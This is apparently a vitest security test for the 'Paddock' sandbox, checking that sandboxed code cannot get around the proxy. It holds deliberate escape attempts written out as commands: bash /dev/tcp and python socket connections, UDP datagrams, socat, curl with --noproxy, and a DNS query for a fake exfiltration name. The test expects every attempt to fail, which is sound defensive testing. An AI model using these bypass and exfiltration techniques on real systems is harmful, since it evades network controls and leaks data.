/**
 * Attack class: ignoring the proxy variables. Raw TCP (IPv4 and IPv6), UDP, QUIC-like datagrams and
 * DNS from inside the sandbox must have no route to the host; the same servers stay reachable
 * through Paddock's proxy when a rule names them (positive control).
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { countingServer, countingUdp, curl, runResuming, suite, type CountingServer } from './helpers.js';

const s = suite('bypass');
let v4: CountingServer;
let v6: CountingServer | null = null;
let udp: Awaited<ReturnType<typeof countingUdp>>;
let dns: Awaited<ReturnType<typeof countingUdp>>;

beforeAll(async () => {
  v4 = await countingServer('v4');
  v6 = await countingServer('v6', '::1').catch(() => null); // no IPv6 loopback on this machine: v6 checks are skipped
  udp = await countingUdp();
  dns = await countingUdp();
});
afterAll(async () => {
  await v4.close();
  await v6?.close();
  udp.close();
  dns.close();
  s.cleanup();
});

// The host's resolver address (no packet is sent to it: a UDP connect() only asks the routing table).
const resolver = (readFileSync('/etc/resolv.conf', 'utf8').match(/^nameserver\s+(\S+)/m)?.[1] ?? '10.255.255.53').replace(/[^0-9a-fA-F:.]/g, '');

describe('proxy variables ignored: no route but the proxy', () => {
  it('raw TCP (bash /dev/tcp, python, IPv4 and ::1), UDP, QUIC-like datagrams and DNS never reach the host; the proxy path works', async () => {
    const p6 = v6?.port ?? 9;
    const py = [
      'import socket, sys',
      'def tcp(fam, addr, tag):',
      '    try:',
      '        c = socket.socket(fam, socket.SOCK_STREAM); c.settimeout(3); c.connect(addr); c.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); print("PY-" + tag + "-CONNECTED", c.recv(100))',
      '    except OSError as e: print("py-" + tag + "-refused", e.errno)',
      `tcp(socket.AF_INET, ("127.0.0.1", ${v4.port}), "tcp4")`,
      `tcp(socket.AF_INET6, ("::1", ${p6}), "tcp6")`,
      'u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      `for i in range(5): u.sendto(b"\\xc3\\x00\\x00\\x00\\x01" + b"\\x00" * 1200, ("127.0.0.1", ${udp.port}))`,
      '# a DNS query for an exfiltration name, sent to a loopback "resolver" on the host',
      'q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(l)]) + l.encode() for l in "secret-data.exfil.invalid".split(".")) + b"\\x00\\x00\\x01\\x00\\x01"',
      `u.sendto(q, ("127.0.0.1", ${dns.port}))`,
      'try:',
      '    r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.connect(("' + resolver + '", 53)); print("RESOLVER-ROUTE")',
      'except OSError as e: print("resolver-unreachable", e.errno)',
      'print("py-done")',
    ].join('\n');
    const { dataDir, file, name } = s.setup((a) => ({
      name: a,
      network: 'on',
      rules: `allow net *\nallow net 127.0.0.1:${v4.port}\n${v6 ? `allow net [::1]:${v6.port}\n` : ''}`,
      command: [
        'bash',
        '-c',
        [
          'echo ifaces=$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " " | tr "\\n" " "); echo routes=$(tail -n +2 /proc/net/route | wc -l)',
          `(exec 3<>/dev/tcp/127.0.0.1/${v4.port}) 2>/dev/null && echo BASH-TCP4-CONNECTED`,
          `(exec 3<>/dev/tcp/::1/${p6}) 2>/dev/null && echo BASH-TCP6-CONNECTED`,
          `for i in 1 2 3; do echo quic-ish > /dev/udp/127.0.0.1/${udp.port}; done 2>/dev/null`,
          `echo dgram | socat - UDP-SENDTO:127.0.0.1:${udp.port} 2>/dev/null`,
          `curl -sS --max-time 3 --noproxy '*' http://127.0.0.1:${v4.port}/ && echo CURL-NOPROXY-CONNECTED`,
          `getent hosts secret-data.exfil.invalid && echo DNS-RESOLVED`,
          `python3 - <<'PY'\n${py}\nPY`,
          // positive control: the same servers through the proxy, with a rule naming them
          curl(`http://127.0.0.1:${v4.port}/`),
          v6 ? curl(`'http://[::1]:${v6.port}/'`) : 'echo hello from v6',
          'echo end',
        ].join('\n'),
      ],
    }));
    const r = await runResuming(dataDir, file, name);
    expect(r.stdout).toContain('end');
    expect(r.stdout).toContain('py-done');
    expect(r.stdout).not.toMatch(/CONNECTED|RESOLVER-ROUTE|DNS-RESOLVED/);
    expect(r.stdout).toMatch(/^ifaces=lo$/m); // the only interface
    expect(r.stdout).toContain('routes=0');
    expect(r.stdout).toContain('resolver-unreachable 101'); // ENETUNREACH
    expect(udp.hits()).toBe(0);
    expect(dns.hits()).toBe(0);
    // positive control, and the proxy was the only way in
    expect(r.stdout).toContain('hello from v4');
    expect(r.stdout).toContain('hello from v6');
    expect(v4.hits()).toBe(1);
    if (v6) expect(v6.hits()).toBe(1);
    expect(r.code).toBe(0);
  });
});
